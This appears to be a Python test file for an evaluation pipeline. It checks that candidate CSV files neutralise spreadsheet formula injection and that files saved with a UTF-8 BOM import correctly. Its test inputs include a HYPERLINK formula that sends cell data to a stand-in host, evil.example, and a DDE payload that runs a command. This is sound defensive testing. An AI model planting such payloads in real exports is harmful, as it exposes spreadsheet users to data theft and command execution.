"""Files people open are safe: formulas stay text in a spreadsheet, and a CSV saved with a UTF-8 BOM
imports with its trace ids."""

from __future__ import annotations

import csv
from dataclasses import dataclass
from datetime import date

from pipelines.core.files import read_filled_in_rows as read_rows
from pipelines.core.records import Score
from pipelines.core.workspace import Workspace
from pipelines.evaluation.outputs.inbox import queue_candidates
from pipelines.golden.human import import_human_items

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


@dataclass
class Chunk:
    chunk_id: str
    text: str


def score(trace_id: str, value: float) -> Score:
    return Score(
        run_id="online/2026-03-01/production",
        suite="online",
        item_id=trace_id,
        stratum="docs/es",
        metric="faithfulness",
        value=value,
        status="ok",
        dataset_version="traces@2026-03-01",
    )


def test_candidate_files_keep_formulas_as_text_and_read_back_unchanged(tmp_path):
    traces = [
        {"trace_id": f"t{i}", "question": text, "answer": FORMULAS[-1 - i], "language": "es"}
        for i, text in enumerate(FORMULAS)
    ]
    written, path = queue_candidates(
        Workspace(tmp_path),
        date(2026, 3, 1),
        traces,
        [score(t["trace_id"], 0.1 * i) for i, t in enumerate(traces)],
    )
    assert written == len(FORMULAS)
    with path.open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert not [
        c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]  # nothing a spreadsheet would run
    rows = read_rows(path)
    assert {r["trace_id"]: r["question"] for r in rows} == {
        t["trace_id"]: t["question"] for t in traces
    }
    assert {r["production_answer"] for r in rows} == set(FORMULAS)


def test_a_csv_saved_with_a_bom_imports_and_keeps_its_trace_id(tmp_path):
    path = tmp_path / "candidates.csv"
    body = "trace_id,question,reference_answer,gold_chunk_ids\r\nt-42,¿Cuál es el límite?,100 por minuto.,c1\r\n"
    path.write_bytes(b"\xef\xbb\xbf" + body.encode("utf-8"))  # what Excel's "CSV UTF-8" writes
    assert read_rows(path)[0]["trace_id"] == "t-42"
    report = import_human_items(
        path,
        [Chunk("c1", "El límite es 100 por minuto.")],
        corpus_version="c",
        created_at="2026-03-02T00:00:00Z",
    )
    assert report.problems == []
    [item] = report.items
    assert item.source == "trace" and item.source_ref == "t-42"
